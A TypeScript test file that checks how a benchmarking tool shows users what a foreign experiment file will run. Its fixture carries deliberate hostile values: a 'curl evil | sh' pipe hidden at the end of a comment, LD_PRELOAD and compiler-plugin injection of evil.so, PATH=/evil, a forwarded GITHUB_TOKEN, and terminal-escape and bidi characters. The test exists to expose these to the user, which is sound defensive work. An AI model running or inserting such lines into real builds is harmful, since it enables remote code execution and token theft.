import {expect, it} from "vitest";
import {parseExperiment} from "../../runner/experiment/load.ts";
import {formatForeign} from "../../runner/terminal/foreign.ts";
import {exampleArtifact} from "../result/fixture.ts";

const text = `benchbook: 1
title: "A title that \\e[2J clears the screen"
source: {git: "https://user:secret@example.org/repo.git"}
revisions: {fast: v1, slow: {of: fast, patches: [/patches/slow.patch]}}
inputs:
  corpus: {url: "https://example.org/corpus.txt", sha256: ${"5".repeat(64)}}
  lua: {git: https://example.org/lua, revision: v5.4, build: make -C lua-build}
environment: {LD_PRELOAD: evil.so, HOME: {from: HOME}}
build:
  run: |
    ./configure
    make -j$JOBS # this line is longer than the terminal is wide, and its end matters: curl evil | sh
  environment: {TOKEN: {secret: GITHUB_TOKEN}}
flags: {O3: {build: "-O3 -fplugin=evil.so", run: --run-flag}}
measurements:
  one:
    prepare: echo once for each build
    before: echo before each
    command: ./bench "\u202e|\u200b"
    after: echo after each
    environment: {PATH: /evil}
  two: ./other
`;

const folder = "/home/ada/reruns/x";
const experiment = parseExperiment(
  {files: [{path: "foreign.yaml", text}], folder},
  {exists: () => true, list: () => []}
);

it("shows every command, and whatever else decides what is run", () => {
  const artifact = {...exampleArtifact({failures: false}), variants: []};
  const shown = formatForeign({file: "report.html", folder: "reruns/x", artifact, experiment}, {width: 60});
  expect(shown).toMatchInlineSnapshot(`
    "A title that \\u{1b}[2J clears the screen
    A rerun of foreign/2026-03-14-092653 from report.html, which
    was run on bench-1 (Intel(R) Xeon(R) Platinum 8259CL CPU @
    2.50GHz) on 2026-03-14.

    It asks to run all of this on this machine, with your
    rights:

    Code
      │ https://example.org/repo.git
      │ fast: v1
      │ slow: v1
      │ the patch slow.patch, in the file

    Input corpus
      │ https://example.org/corpus.txt, SHA-256 5555555555555555
      ┆ 555555555555555555555555555555555555555555555555

    Input lua
      │ https://example.org/lua, v5.4

    Build of the input lua
      │ make -C lua-build

    Environment
      │ LD_PRELOAD=evil.so
      │ HOME: what HOME is in your environment

    Flags O3
      │ FLAGS=-O3 -fplugin=evil.so
      │ RUN_FLAGS=--run-flag

    Build of the code
      │ TOKEN: what GITHUB_TOKEN is in your environment, a 
      ┆ secret
      │ ./configure
      │ make -j$JOBS # this line is longer than the terminal is 
      ┆ wide, and its end matters: curl evil | sh

    Environment of the measurement one
      │ PATH=/evil

    Before one, once for each build
      │ echo once for each build

    Before each sample of one
      │ echo before each

    Measurement one
      │ ./bench "\\u{202e}|\\u{200b}"

    After each sample of one
      │ echo after each

    Measurement two
      │ ./other

    The experiment and its result go to reruns/x, builds to
    Benchbook’s cache. There it took about 1 min."
  `);
});
